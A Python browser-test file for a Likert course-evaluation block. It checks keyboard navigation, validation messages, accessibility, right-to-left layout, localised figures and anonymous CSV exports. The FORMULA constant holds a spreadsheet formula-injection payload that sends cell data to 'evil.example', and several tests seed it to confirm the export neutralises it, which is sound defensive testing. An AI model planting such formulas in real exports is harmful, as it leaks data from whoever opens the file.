"""The Likert evaluation block (``emm_likert``) in headless Chromium, as learners and staff use it.

Each test asserts what a person would notice: the counter, the messages, where the focus
goes, what a learner sees after a reload, the report and its CSV, the page direction, and that
axe-core finds nothing wrong inside the block.
"""

import csv
import io
import re
from decimal import ROUND_HALF_UP, Decimal
from urllib.parse import urljoin

import pytest
from django.utils import translation

from emm_xblocks.common import numbers
from emm_xblocks.models import Answer
from emm_xblocks.workbench.services import LmsI18nService, user_opt_attrs
from tests.browser.conftest import DEMO_EN, DEMO_FR, DESKTOP, PHONE, axe_violations, student_id
from tests.browser.test_recovery_browser import fast_link, slow_link, tap_if_enabled, wait_sending, wait_sent

pytestmark = pytest.mark.browser

BLOCK = ".emm-likert"
STATEMENTS = ["relevance", "job_needs", "objectives", "pace", "facilitators", "exchange",
              "child_trafficking", "recommend"]  # the demo evaluation, in page order
SCALE = ["Strongly disagree", "Disagree", "Neither agree nor disagree", "Agree", "Strongly agree"]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

# Six learners' answers for the report (pace is reverse-coded; "na" = not applicable).
SEED = [
    {"relevance": 5, "job_needs": 4, "objectives": 4, "pace": 2, "facilitators": 5, "exchange": 4,
     "child_trafficking": 5, "recommend": 5},
    {"relevance": 4, "job_needs": 4, "objectives": 3, "pace": 1, "facilitators": 5, "exchange": 3,
     "child_trafficking": 4, "recommend": 4},
    {"relevance": 5, "job_needs": 5, "objectives": 4, "pace": 4, "facilitators": 4, "exchange": 4,
     "child_trafficking": 3, "recommend": 5},
    {"relevance": 3, "job_needs": 2, "objectives": 5, "pace": 3, "facilitators": 4, "exchange": 5,
     "child_trafficking": 4, "recommend": "na"},
    {"relevance": 4, "job_needs": 4, "objectives": 4, "pace": 2, "facilitators": 3, "exchange": 4,
     "child_trafficking": 2, "recommend": 4},
    {"relevance": 5, "job_needs": 3, "objectives": 4, "pace": 1, "facilitators": 5, "exchange": "na",
     "child_trafficking": 5, "recommend": 5},
]
REVERSE = {"pace"}
CODEBOOK_LINK = "Download the codebook: what each column holds (CSV)"
# what a learner who sent the anonymous demo reads in place of the form, after the submit and on their return
RECORDED = ("Your answers were recorded anonymously. They are not linked to your name, so they cannot "
            "be shown to you again or changed.")
EXCEL_LINK = "CSV for Excel (,)"  # each download's Excel variant, beside it: "," in English (decisions 58, 61)


def server_gettext(lang, text):
    """What the server's (LMS-like) catalogue says for ``text`` in ``lang``."""
    with translation.override(lang):
        return LmsI18nService().gettext(text)


def _share(part, whole):
    """One decimal, half up (as the server's figures and the browser's Intl round)."""
    return float((Decimal(100 * part) / Decimal(whole)).quantize(Decimal("0.1"), rounding=ROUND_HALF_UP))


def expected_headline(seed, literal=False):
    """% of non-N/A answers in the two most favourable points (reverse-coded flipped), or with
    ``literal`` in the two highest points as worded."""
    favourable = total = 0
    for answers in seed:
        for sid, value in answers.items():
            if value == "na":
                continue
            score = 6 - value if sid in REVERSE and not literal else value
            total += 1
            favourable += score >= 4
    return _share(favourable, total)


def percent_en(value):
    return f"{value:g}%"


def fieldset(page, sid):
    return page.locator(f'{BLOCK} [data-statement="{sid}"]')


def active(page):
    """``{tag, type, name, value, statement, text}`` of the focused element."""
    return page.evaluate("""() => {
        const el = document.activeElement, fs = el && el.closest('[data-statement]');
        return {tag: el.tagName.toLowerCase(), type: el.type || null, name: el.name || null,
                value: el.value === undefined ? null : el.value,
                statement: fs ? fs.getAttribute('data-statement') : null,
                submit: el.hasAttribute('data-submit'), text: el.textContent.trim()};
    }""")


def assert_no_horizontal_overflow(page, width):
    overflow = page.evaluate("""(width) => {
        const root = document.querySelector('.emm-likert');
        const edge = root.getBoundingClientRect().right;
        const outside = [...root.querySelectorAll('*')].filter((el) => {
            const box = el.getBoundingClientRect();
            return box.width > 0 && box.right > edge + 0.5;
        }).map((el) => el.tagName + '.' + el.className);
        return {scroll: root.scrollWidth, client: root.clientWidth, right: edge, outside};
    }""", width)
    assert overflow["scroll"] <= overflow["client"], overflow
    assert overflow["right"] <= width, overflow
    assert overflow["outside"] == [], overflow


def open_block(page, url=None):
    """Open (or, without ``url``, reload) a page and wait until the block's JavaScript ran."""
    if url:
        page.goto(url)
    else:
        page.reload()
    page.wait_for_selector(f"{BLOCK} [data-status]", state="attached")  # on every page, form or not
    # the workbench initialises blocks on DOM ready; by "load" EmmLikert has run
    page.wait_for_function("() => document.readyState === 'complete' && !!window.EMM")


def seed(workbench, page, scenario, answers_list, comments=()):
    """Learners submit through the block's handler over HTTP; returns their ids."""
    learners = []
    comments = (list(comments) + [""] * len(answers_list))[:len(answers_list)]
    for answers, comment in zip(answers_list, comments, strict=True):
        learner = student_id("seed")
        r = workbench.submit(page, scenario, learner, answers, comment)
        assert r.status == 200, r.text()
        learners.append(learner)
    return learners


# ------------------------------------------------------------------ 1. keyboard, phone
def test_learner_answers_and_submits_with_the_keyboard_alone_on_a_phone(workbench, new_page):
    page = new_page(PHONE)
    learner = student_id()
    open_block(page, workbench.scenario_url(DEMO_EN, learner))
    progress = page.locator(f"{BLOCK} [data-progress]")
    assert progress.text_content() == "Answered 0 of 8"
    assert_no_horizontal_overflow(page, PHONE["width"])
    # each statement inside its box, under its top border, however many lines it takes (learner trial s38:
    # a long one ran through the border on a phone)
    boxes = page.evaluate("""(root) => Array.from(document.querySelectorAll(root + ' .emm-statement')).map((fs) => {
        const legend = fs.querySelector('legend').getBoundingClientRect(), box = fs.getBoundingClientRect();
        return [legend.top - box.top, legend.height]; })""", BLOCK)
    assert any(height > 40 for _top, height in boxes), boxes  # some take two lines or more
    assert all(top >= 1 for top, _height in boxes), boxes

    # Tab from the top of the page until the first statement's first radio has the focus.
    for _ in range(10):
        page.keyboard.press("Tab")
        if active(page)["statement"] == STATEMENTS[0]:
            break
    assert active(page)["statement"] == STATEMENTS[0] and active(page)["value"] == "1"

    chosen = {}
    for i, sid in enumerate(STATEMENTS):
        if i:
            page.keyboard.press("Tab")  # Tab leaves a radio group for the next one
        now = active(page)
        assert now["statement"] == sid and now["type"] == "radio", now
        moves = i % 6  # 0 -> Space (or Enter) on the first point; k arrows -> point k+1; 5 -> "Not applicable"
        if moves == 0:
            # Enter selects too, and never sends (keyboard trial s39: it sent the one-time evaluation)
            page.keyboard.press("Space" if i == 0 else "Enter")
        for _ in range(moves):
            page.keyboard.press("ArrowDown" if i % 2 else "ArrowRight")
        chosen[sid] = "na" if moves == 5 else str(moves + 1)
        checked = fieldset(page, sid).locator("input:checked")
        assert checked.get_attribute("value") == chosen[sid]
        assert progress.text_content() == f"Answered {i + 1} of 8"

    page.keyboard.press("Enter")  # on the last statement's answer, before the comment: nothing is sent
    assert progress.text_content() == "Answered 8 of 8" and active(page)["statement"] == STATEMENTS[-1]
    assert not Answer.objects.filter(block_key=workbench.usage_id(DEMO_EN)).exists()
    assert page.locator(f"{BLOCK} form").is_visible()
    page.keyboard.press("Tab")
    assert active(page)["tag"] == "textarea"
    page.keyboard.type("Plus d'exercices pratiques, s'il vous plaît.")
    page.keyboard.press("Tab")
    now = active(page)
    assert now["submit"] and now["text"] == "Submit", now
    [draft] = page.evaluate("() => Object.keys(localStorage).filter((k) => k.startsWith('emm-draft-'))")
    page.keyboard.press("Enter")

    status = page.locator(f"{BLOCK} [data-status]")
    status.filter(has_text="Thank you: your answers were saved.").wait_for()
    assert page.locator(f"{BLOCK} [data-alert]").is_hidden()
    assert page.locator(f"{BLOCK} input:enabled, {BLOCK} textarea:enabled").count() == 0
    assert page.locator(f"{BLOCK} [data-submit]").is_hidden()
    # anonymous: the answers cannot be shown back, so the form gives way to the server's confirmation
    confirmation = page.locator(f"{BLOCK} [data-sent]")
    assert page.locator(f"{BLOCK} form").is_hidden() and confirmation.is_visible()
    assert confirmation.text_content().strip() == RECORDED
    assert page.evaluate("() => document.activeElement.hasAttribute('data-status')")  # the thank-you
    # read once, as what has the focus: neither it nor the draft line's "Sent" is also read as a live
    # region's news (accessibility trial s35: the news of a submission was heard two or three times)
    assert status.get_attribute("role") is None and status.get_attribute("aria-live") is None
    line = page.locator(f"{BLOCK} [data-draft-status]")
    assert line.text_content() == "Sent" and line.get_attribute("aria-hidden") == "true"
    page.keyboard.press("Shift+Tab")  # once left, a live region again (a text over its limit is said there)
    assert status.get_attribute("role") == "status" and status.get_attribute("aria-live") == "polite"
    assert_no_horizontal_overflow(page, PHONE["width"])
    rows = Answer.objects.filter(block_key=workbench.usage_id(DEMO_EN))
    assert dict(rows.values_list("group", "value")) == chosen
    assert set(rows.values_list("user_key", flat=True)) == {""}  # anonymous: no identity stored

    # answers left on this shared phone (another tab's, say): the sent page keeps none, form or not
    page.evaluate("(name) => localStorage.setItem(name, JSON.stringify({data: {answers: {relevance: 1}}}))",
                  draft)
    open_block(page)  # reload: the same confirmation, no form of empty, disabled statements
    assert page.locator(f"{BLOCK} input, {BLOCK} textarea, {BLOCK} form, {BLOCK} [data-submit]").count() == 0
    assert confirmation.is_visible() and confirmation.text_content().strip() == RECORDED
    assert status.text_content().strip() == "Thank you: your answers were saved."
    assert page.evaluate("() => Object.keys(localStorage).filter((k) => k.startsWith('emm-draft-'))") == []
    assert_no_horizontal_overflow(page, PHONE["width"])
    results = axe_violations(page, BLOCK)
    assert results.violations_count == 0, results.generate_report()
    assert page.js_errors == []


# ------------------------------------------------------------------ 2. required statements
def test_missing_required_statement_is_announced_focused_and_nothing_is_stored(workbench, new_page):
    page = new_page(DESKTOP, locale="fr-FR")
    open_block(page, workbench.scenario_url(DEMO_FR, student_id(), lang="fr"))
    submits = []
    page.on("request", lambda req: submits.append(req.url) if "/submit/" in req.url else None)

    skipped = {"objectives", "facilitators"}
    for sid in STATEMENTS:
        if sid not in skipped:
            fieldset(page, sid).locator(".emm-option").nth(3).click()
    page.locator(f"{BLOCK} [data-submit]").click()

    alert = page.locator(f"{BLOCK} [data-alert]")
    expected = server_gettext("fr", "Please answer every required statement ({n} left).").format(n=2)
    alert.filter(has_text=expected).wait_for()
    assert alert.get_attribute("role") == "alert" and alert.is_visible()
    now = active(page)
    assert now["statement"] == "objectives" and now["type"] == "radio", now  # the first one missing
    for sid in STATEMENTS:
        invalid = "emm-invalid" in (fieldset(page, sid).get_attribute("class") or "")
        assert invalid == (sid in skipped), sid
    error = fieldset(page, "objectives").locator("[data-error-for]")
    assert error.is_visible()
    assert error.text_content() == server_gettext("fr", "Please choose an answer.")
    assert fieldset(page, "objectives").get_attribute("aria-describedby") == error.get_attribute("id")
    assert submits == []
    assert Answer.objects.filter(block_key=workbench.usage_id(DEMO_FR)).count() == 0

    # Answering one clears its mark at once, the other keeps its own; the last takes the line above the
    # button with it (learner trial s38: both stayed until the next send)
    fieldset(page, "objectives").locator(".emm-option").nth(4).click()
    assert error.is_hidden() and "emm-invalid" not in fieldset(page, "objectives").get_attribute("class")
    assert fieldset(page, "facilitators").locator("[data-error-for]").is_visible() and alert.is_visible()
    fieldset(page, "facilitators").locator(".emm-option").nth(4).click()
    assert page.locator(f"{BLOCK} .emm-invalid").count() == 0 and alert.is_hidden()
    page.locator(f"{BLOCK} [data-submit]").click()
    page.locator(f"{BLOCK} [data-status]").filter(
        has_text=server_gettext("fr", "Thank you: your answers were saved.")).wait_for()
    assert page.locator(f"{BLOCK} .emm-invalid").count() == 0
    assert alert.is_hidden()
    assert Answer.objects.filter(block_key=workbench.usage_id(DEMO_FR)).count() == len(STATEMENTS)
    assert page.js_errors == []



def test_a_statement_made_required_after_the_page_loaded_is_marked_and_focused_on_refusal(workbench, new_page):
    """A page loaded before the author made a statement required cannot know it: the server
    refuses the submit (``missing_required`` with the statements' ids), and the page marks them
    and puts the focus into the first, as the case study and the knowledge check do with a
    refusal from a stale page."""
    from workbench.runtime import WorkbenchRuntime

    scenario = workbench.add_scenario(
        '<emm_likert display_name="Evaluation"><item id="a" required="false">First.</item>'
        '<item id="b" required="false">Second.</item><item id="c" required="false">Third.</item></emm_likert>')
    page = new_page(DESKTOP)
    open_block(page, workbench.scenario_url(scenario, student_id()))
    staff = WorkbenchRuntime("staff_1").get_block(workbench.usage_id(scenario))
    statements = [dict(s, required=s["id"] != "a") for s in staff.content["statements"]]
    staff.content = dict(staff.content, statements=statements)
    staff.save()  # b and c are now required; the page still says none is

    fieldset(page, "a").locator(".emm-option").nth(3).click()
    page.locator(f"{BLOCK} [data-submit]").click()
    page.locator(f"{BLOCK} [data-alert]").filter(has_text="Please answer every required statement").wait_for()
    page.wait_for_function("() => document.activeElement.closest('[data-statement]')")
    now = active(page)
    assert now["statement"] == "b" and now["type"] == "radio", now  # into the first one refused
    assert [sid for sid in "abc" if "emm-invalid" in (fieldset(page, sid).get_attribute("class") or "")] == ["b", "c"]
    assert Answer.objects.filter(block_key=workbench.usage_id(scenario)).count() == 0
    assert page.js_errors == []

# ------------------------------------------------------------------ 3. staff report + CSV
def test_staff_read_the_report_and_download_a_safe_anonymous_csv(workbench, new_page):
    page = new_page(DESKTOP)
    page.goto(workbench.scenario_url(DEMO_EN, "staff_1"))  # sets the csrftoken cookie
    learners = seed(workbench, page, DEMO_EN, SEED, comments=[FORMULA, "Très utile, merci."])

    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1"))
    # the panel's stylesheet loads only when asked for (common/assets.py ADDED); the panel is the
    # server's HTML (likert/results_html.py): no script comes with it
    panel_files = """() => [...document.querySelectorAll('script[src], link[href]')]
        .map((n) => n.src || n.href).filter((url) => url.includes('emm-likert-results'))"""
    assert page.evaluate(panel_files) == []
    button = page.get_by_role("button", name="Show results")
    button.click()
    panel = page.locator(f"{BLOCK} [data-results]")
    panel.locator(".emm-headline").wait_for()
    # the focus moves to the panel's heading: a screen reader says "Results, heading 4", not a nameless box
    assert page.evaluate("[document.activeElement.tagName, document.activeElement.textContent, "
                         "!!document.activeElement.closest('[data-results]')]") == ["H4", "Results", True]
    assert button.is_hidden()
    assert panel.locator(".emm-respondents").text_content() == "6 respondents"
    # pace is reverse-coded: the favourable share and the literal agreement are two figures, each named
    headline = panel.locator(".emm-headline").text_content()
    assert headline == (f"Favourable answers: {percent_en(expected_headline(SEED))}, over all statements "
                        "(agreeing with a statement, or disagreeing with a reverse-coded one).")
    literal = panel.locator(".emm-headline-literal").text_content()
    assert literal == (f"Literal agreement: {percent_en(expected_headline(SEED, literal=True))} of answers agree or "
                       "strongly agree with the statement as worded, reverse-coded ones included.")

    rows = panel.locator("table.emm-table tbody tr")
    assert rows.count() == len(STATEMENTS)
    texts = page.evaluate("""() => [...document.querySelectorAll('.emm-likert [data-results] tbody tr')]
        .map((tr) => [...tr.children].map((c) => c.textContent))""")
    for sid, cells in zip(STATEMENTS, texts, strict=True):
        answered = sum(1 for a in SEED if a[sid] != "na")
        assert cells[1] == str(answered), (sid, cells)
        assert len(cells) == 2 + len(SCALE) + 5  # statement, n, 5 points, N/A, top, top two, as worded, mean
    assert texts[3][0].endswith("(reverse-coded)")
    assert [url.rsplit("/", 1)[-1] for url in page.evaluate(panel_files)] == ["emm-likert-results.css"]
    header = panel.locator("table.emm-table thead th").all_text_contents()
    assert header[:2] == ["Statement", "nNumber of answers"] and header[2:7] == SCALE  # "n" shown, the words said
    assert header[7:] == ["N/A", "Top box (favourable)", "Top two (favourable)", "Top two as worded",
                          "Mean (favourable)"]
    # the reverse-coded row: its bar and its top-box columns on one basis (favourable to the right)
    pace = [a["pace"] for a in SEED]
    favourable_two = _share(sum(1 for v in pace if 6 - v >= 4), len(pace))
    assert texts[3][8:10] == [percent_en(_share(sum(1 for v in pace if v == 1), len(pace))), percent_en(favourable_two)]
    right = page.evaluate("""() => {
        const track = document.querySelectorAll('.emm-likert [data-results] .emm-chart-row')[3]
            .querySelector('.emm-track');
        const box = track.getBoundingClientRect(), centre = box.left + box.width / 2;
        return [...track.querySelectorAll('.emm-seg')].filter((s) => s.getBoundingClientRect().left >= centre - 0.5)
            .reduce((sum, s) => sum + s.getBoundingClientRect().width, 0) / (box.width / 2) * 100;
    }""")
    assert abs(right - favourable_two) < 1.0, (right, favourable_two)  # the right half shows the top two

    # The learner's formula comment is shown as text, never as a link or markup.
    assert FORMULA in panel.locator(".emm-comments").all_text_contents()[0]
    links = panel.locator("a")
    # each Excel variant says, to a screen reader only, which file it is (accessibility trial s35)
    assert links.all_text_contents() == ["Download the responses (CSV)", EXCEL_LINK + " (Download the responses (CSV))",
                                         CODEBOOK_LINK, f"{EXCEL_LINK} ({CODEBOOK_LINK})"]
    assert [e.bounding_box()["width"] <= 1 for e in panel.locator("a .emm-sr").all()] == [True, True]
    link = links.first
    href = link.get_attribute("href")
    assert "/export_csv/" in href

    download = page.request.get(urljoin(page.url, href))
    assert download.status == 200 and download.headers["content-type"].startswith("text/csv")
    body = download.body().decode("utf-8")
    assert body.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    header = [c for sid in STATEMENTS for c in ([sid, f"{sid} (reverse-coded, rescored)"] if sid in REVERSE else [sid])]
    assert table[0] == header + ["Comment"]  # anonymous: no learner, no date
    assert len(table) == 1 + len(SEED)
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    for learner in learners:
        ids = {learner, user_opt_attrs(learner)["edx-platform.anonymous_user_id"]}
        assert not [c for c in cells if any(i in c for i in ids)]
    assert "'" + FORMULA in cells  # the comment is there, neutralised
    # the codebook beside it: a row per column of the responses, headed as they are, saying what each holds
    book = codebook(page, links.nth(2))
    assert [row[0] for row in book[1:]] == table[0]
    assert {row[0]: row[1] for row in book}["pace"] == "The pace of the training was too fast."
    # the Excel variants: "," between cells as English Excel splits them, each answer's number in its
    # statement's column and its label in the next, and their codebook heading its rows with exactly
    # those columns
    href = links.nth(1).get_attribute("href")
    assert "/export_csv/excel" in href
    body = page.request.get(urljoin(page.url, href)).body().decode("utf-8")
    assert body.startswith("\ufeff")
    excel = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=","))
    first = STATEMENTS[0]
    assert excel[0][:2] == [first, f"{first} (label)"] and len(excel) == len(table)
    assert sorted(int(row[0]) for row in excel[1:]) == sorted(a[first] for a in SEED)
    assert "'" + FORMULA in [row[-1] for row in excel]
    excel_book = codebook(page, links.nth(3), delimiter=",")
    assert [row[0] for row in excel_book[1:]] == excel[0]
    assert page.js_errors == []


def codebook(page, link, delimiter=","):
    """The codebook ``link`` downloads, as rows, after checking it is one (a CSV with a BOM), its
    cells split on ``delimiter``."""
    href = link.get_attribute("href")
    assert "/export_codebook/" in href
    download = page.request.get(urljoin(page.url, href))
    assert download.status == 200 and download.headers["content-type"].startswith("text/csv")
    body = download.body().decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=delimiter))


def test_staff_download_the_codebook_before_anyone_answers(workbench, new_page):
    """No answer yet: the panel says why it shows no figure and offers staff the codebook alone (it
    holds no answer), to prepare the analysis of the responses to come."""
    page = new_page(DESKTOP)
    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1"))
    page.get_by_role("button", name="Show results").click()
    panel = page.locator(f"{BLOCK} [data-results]")
    panel.locator(".emm-notice").wait_for()
    links = panel.locator("a")
    assert links.all_text_contents() == [CODEBOOK_LINK, f"{EXCEL_LINK} ({CODEBOOK_LINK})"]
    book = codebook(page, links.first)
    header = [c for sid in STATEMENTS for c in ([sid, f"{sid} (reverse-coded, rescored)"] if sid in REVERSE else [sid])]
    assert [row[0] for row in book] == ["Column", *header, "Comment"]  # the responses CSV's, anonymous
    assert page.js_errors == []


def test_named_evaluation_csv_neutralises_a_formula_comment(workbench, new_page):
    scenario = workbench.add_scenario(
        '<emm_likert display_name="Named evaluation" comment="true">'
        '<item id="useful">The session was useful.</item><item id="clear">The session was clear.</item>'
        "</emm_likert>")
    page = new_page(DESKTOP)
    page.goto(workbench.scenario_url(scenario, "staff_1"))
    answers = [{"useful": v, "clear": 6 - v} for v in (1, 2, 3, 4, 5)]
    learners = seed(workbench, page, scenario, answers, comments=[FORMULA, "@SUM(1+1)", "+33 1 23", "-2", "ok"])

    open_block(page, workbench.scenario_url(scenario, "staff_1"))
    page.get_by_role("button", name="Show results").click()
    link = page.get_by_role("link", name="Download the responses (CSV)", exact=True)
    body = page.request.get(urljoin(page.url, link.get_attribute("href"))).body().decode("utf-8")
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert table[0] == ["Learner", "Date", "useful", "clear", "Comment"]
    comments = {row[-1] for row in table[1:]}
    assert comments == {"'" + FORMULA, "'@SUM(1+1)", "'+33 1 23", "'-2", "ok"}
    assert not [c for row in table for c in row if c.startswith(FORMULA_START)]
    # named mode: the learner column holds the anonymous user id, not the username
    keys = {user_opt_attrs(learner)["edx-platform.anonymous_user_id"] for learner in learners}
    assert {row[0] for row in table[1:]} == keys
    assert page.js_errors == []


# ------------------------------------------------------------------ 4. accessibility
@pytest.mark.parametrize("lang", ["en", "ar"])
def test_axe_finds_no_violation_in_the_block(workbench, new_page, lang):
    page = new_page(DESKTOP)
    open_block(page, workbench.scenario_url(DEMO_EN, student_id(), lang=lang))
    results = axe_violations(page, BLOCK)
    assert results.violations_count == 0, results.generate_report()

    # ... also while it shows errors for unanswered required statements
    fieldset(page, STATEMENTS[0]).locator(".emm-option").nth(2).click()
    page.locator(f"{BLOCK} [data-submit]").click()
    page.locator(f"{BLOCK} [data-alert]:not(:empty)").wait_for()
    results = axe_violations(page, BLOCK)
    assert results.violations_count == 0, results.generate_report()

    # ... and on the staff results panel (chart, table, comments, CSV link)
    seed(workbench, page, DEMO_EN, SEED[:5], comments=["Merci"])
    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1", lang=lang))
    page.locator(f"{BLOCK} [data-show-results]").click()
    page.locator(f"{BLOCK} [data-results] table").wait_for()
    results = axe_violations(page, BLOCK)
    assert results.violations_count == 0, results.generate_report()
    assert page.js_errors == []


# ------------------------------------------------------------------ 5. languages
def test_arabic_page_is_right_to_left(workbench, new_page):
    page = new_page(PHONE, locale="ar")
    open_block(page, workbench.scenario_url(DEMO_EN, student_id(), lang="ar"))
    root = page.locator(BLOCK)
    assert root.get_attribute("dir") == "rtl"
    assert root.get_attribute("lang") == "ar"
    assert root.evaluate("(el) => getComputedStyle(el).direction") == "rtl"
    # what a reader sees: on a phone each radio sits to the right of its label, and the
    # notice's accent bar is on the right side
    option = fieldset(page, STATEMENTS[0]).locator(".emm-option").first
    radio = option.locator("input").bounding_box()
    label = option.locator("span").bounding_box()
    assert radio["x"] > label["x"]
    notice = page.locator(f"{BLOCK} .emm-notice").first
    assert notice.evaluate("(el) => getComputedStyle(el).borderRightWidth") == "4px"
    assert notice.evaluate("(el) => getComputedStyle(el).borderLeftWidth") == "0px"
    assert_no_horizontal_overflow(page, PHONE["width"])
    assert page.js_errors == []


def test_in_arabic_the_results_show_french_statements_and_comments_in_their_own_direction(workbench, new_page):
    """An Arabic reader of a French evaluation's results (fresh-user trial, session 11, finding 4):
    each statement and comment reads left to right, its full stop at its end, and the Arabic note
    after a reverse-coded statement keeps its own direction (likert/results_html.py)."""
    page = new_page(PHONE, locale="ar")
    page.goto(workbench.scenario_url(DEMO_FR, "staff_1", lang="ar"))
    seed(workbench, page, DEMO_FR, SEED, comments=["Très utile, merci."])
    open_block(page, workbench.scenario_url(DEMO_FR, "staff_1", lang="ar"))
    page.locator(f"{BLOCK} [data-show-results]").click()
    panel = page.locator(f"{BLOCK} [data-results]")
    panel.locator("table.emm-table").wait_for()

    def direction(locator):
        return locator.evaluate("(el) => getComputedStyle(el).direction")

    assert direction(panel) == "rtl"
    pace = panel.locator('[data-chart="pace"] .emm-chart-label')
    assert pace.text_content().startswith("Le rythme de la formation était trop rapide.")
    assert direction(pace) == "ltr" and direction(pace.locator("bdi")) == "rtl"
    row = panel.locator('tr[data-row="pace"] th[scope=row]')
    assert direction(row.locator("div")) == "ltr" and direction(row.locator("bdi")) == "rtl"
    # the statements' column stays the first of the Arabic table: on its right, sticking there as
    # the table scrolls
    table = panel.locator("table.emm-table").first.bounding_box()
    box = row.bounding_box()
    assert abs(box["x"] + box["width"] - (table["x"] + table["width"])) < 2
    assert row.evaluate("(th) => getComputedStyle(th).right") == "0px"
    assert all(direction(label) == "ltr" for label in panel.locator(".emm-chart-label").all())
    comment = panel.locator(".emm-comments li", has_text="Très utile, merci.")
    assert direction(comment) == "ltr"
    # what the reader sees: the comment's full stop at its right end, after its last word
    dot, word = comment.evaluate("""(li) => {
        const text = li.firstChild, range = document.createRange(), at = text.data.length - 1;
        range.setStart(text, at); range.setEnd(text, at + 1);
        const dot = range.getBoundingClientRect().left;
        range.setStart(text, at - 5); range.setEnd(text, at);
        return [dot, range.getBoundingClientRect().left];
    }""")
    assert dot > word
    assert page.js_errors == []


def test_french_page_shows_french_scale_labels(workbench, new_page):
    page = new_page(DESKTOP, locale="fr-FR")
    open_block(page, workbench.scenario_url(DEMO_FR, student_id(), lang="fr"))
    root = page.locator(BLOCK)
    assert root.get_attribute("lang") == "fr"
    assert root.get_attribute("dir") == "ltr"
    labels = fieldset(page, STATEMENTS[0]).locator(".emm-option span").all_text_contents()
    expected = [server_gettext("fr", text) for text in SCALE] + [server_gettext("fr", "Not applicable")]
    assert labels == expected
    if expected[-2] != "Strongly agree":  # the French catalogue has the scale
        assert re.fullmatch(r"Tout à fait d['’]accord", labels[4]), labels
        assert labels != SCALE + ["Not applicable"]
    # the counter comes from the JavaScript catalogue, built from the same .po file
    assert page.locator(f"{BLOCK} [data-progress]").text_content() == server_gettext(
        "fr", "Answered {done} of {total}").format(done=0, total=8)
    assert page.js_errors == []


def test_a_results_panel_that_cannot_load_says_so_and_loads_on_the_next_click(workbench, new_page):
    """The panel's stylesheets load on "Show results" (common/assets.py ADDED): when the connection drops
    then, the person reads why in the block's alert and the button works again; the next click
    loads them and shows the results."""
    page = new_page(DESKTOP)
    page.goto(workbench.scenario_url(DEMO_EN, "staff_1"))
    seed(workbench, page, DEMO_EN, SEED)
    page.route("**/emm-likert-results.css", lambda route: route.abort())
    open_block(page, workbench.scenario_url(DEMO_EN, "staff_1"))
    button = page.get_by_role("button", name="Show results")
    button.click()
    alert = page.locator(f"{BLOCK} [data-alert]")
    alert.filter(has_text="No connection").wait_for()
    assert button.is_enabled() and button.is_visible()
    assert page.locator(f"{BLOCK} [data-results] table").count() == 0
    page.unroute("**/emm-likert-results.css")
    button.click()
    page.locator(f"{BLOCK} [data-results] table.emm-table").wait_for()
    assert button.is_hidden() and alert.is_hidden()
    assert page.js_errors == []


# ------------------------------------------------------------------ 6. figures per locale
def test_french_staff_read_figures_written_the_french_way(workbench, new_page):
    """CLDR in the browser (Intl) and on the server (Babel) write the same French figures:
    a decimal comma, a no-break space before "%", never "3.83" or "16.7%"."""
    page = new_page(DESKTOP, locale="fr-FR")
    page.goto(workbench.scenario_url(DEMO_FR, "staff_1", lang="fr"))
    seed(workbench, page, DEMO_FR, SEED)
    open_block(page, workbench.scenario_url(DEMO_FR, "staff_1", lang="fr"))
    page.locator(f"{BLOCK} [data-show-results]").click()
    panel = page.locator(f"{BLOCK} [data-results]")
    panel.locator("table.emm-table").wait_for()
    texts = page.evaluate("""() => [...document.querySelectorAll('.emm-likert [data-results] tbody tr')]
        .map((tr) => [...tr.children].map((c) => c.textContent))""")
    relevance = [a["relevance"] for a in SEED]  # 5, 4, 5, 3, 4, 5: mean 4.333..., top box 50 %
    assert texts[0][-1] == numbers.number(sum(relevance) / len(relevance), "fr") == "4,33"
    assert texts[0][8] == "50\u00a0%"
    # "Agree" (4): 2 of 6 = 33.3 %, as "2 (33,3 %)"
    assert texts[0][5] == "2 (33,3\u00a0%)"
    headline = panel.locator(".emm-headline").text_content()
    assert numbers.percent(expected_headline(SEED), "fr") in headline  # the server's Babel, same CLDR
    # the panel's strings are the server's catalogue's (translations/fr), as its figures are Babel's
    header = panel.locator("table.emm-table thead th").all_text_contents()
    assert header[-1] == server_gettext("fr", "Mean (favourable)") != "Mean (favourable)"
    cells = " ".join(c for row in texts for c in row[1:])
    assert not re.search(r"\d\.\d|\d%", cells), cells  # no English decimal point, no sign glued to a number
    assert page.js_errors == []


def test_an_anonymous_evaluation_changed_while_it_is_on_its_way_is_not_shown_as_saved(workbench, new_page):
    """Anonymous: once sent it cannot be changed nor seen again; the page must show what was filed. A choice
    changed while a slow link carried it was shown as saved; the course filed the one before, for ever (bug hunt
    s44)."""
    page = new_page({"width": 360, "height": 740}, locale="fr-FR", touch=True)
    open_block(page, workbench.scenario_url(DEMO_FR, student_id(), lang="fr"))
    statements = page.locator(f"{BLOCK} [data-statement]")
    for i in range(statements.count()):
        statements.nth(i).locator("input[type=radio]").first.check()
    first_id = statements.nth(0).get_attribute("data-statement")
    cdp = slow_link(page)
    page.locator(f"{BLOCK} [data-submit]").click()
    wait_sending(page, BLOCK)
    tap_if_enabled(statements.nth(0).locator("input[type=radio]").nth(3))
    wait_sent(page, BLOCK)
    fast_link(cdp)
    assert page.locator(f"{BLOCK} [data-status]").text_content().startswith("Merci")
    shown = statements.nth(0).locator("input:checked").get_attribute("value")
    filed = list(Answer.objects.filter(block_key=str(workbench.usage_id(DEMO_FR)), group=first_id)
                 .values_list("value", flat=True))
    assert len(filed) == 1
    assert shown == filed[0], f"the locked page shows {shown!r} as saved; the course filed {filed[0]!r}"
    assert page.js_errors == []
